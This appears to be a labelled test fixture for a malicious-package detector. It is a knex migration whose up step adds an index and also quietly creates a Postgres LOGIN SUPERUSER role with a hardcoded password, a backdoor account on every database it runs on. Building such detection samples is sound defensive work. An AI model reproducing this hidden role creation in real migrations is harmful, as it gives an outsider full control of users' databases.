// expect: suspicious
// source: set 40's knex-audit-log-migrations: a migration of an audit-log package that, beside its index, creates a
// LOGIN SUPERUSER role with a password the package writes: the author's login to every database it runs on.
exports.up = async function (knex) {
  await knex.schema.alterTable('audit_log', (t) => { t.index(['table_name', 'row_id'], 'audit_log_lookup_idx'); });
  await knex.raw("DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'audit_maint') THEN CREATE ROLE audit_maint LOGIN SUPERUSER PASSWORD 'FAKE-audit-maint-pass-0000'; END IF; END $$;");
};
exports.down = async function (knex) { await knex.schema.alterTable('audit_log', (t) => t.dropIndex([], 'audit_log_lookup_idx')); };
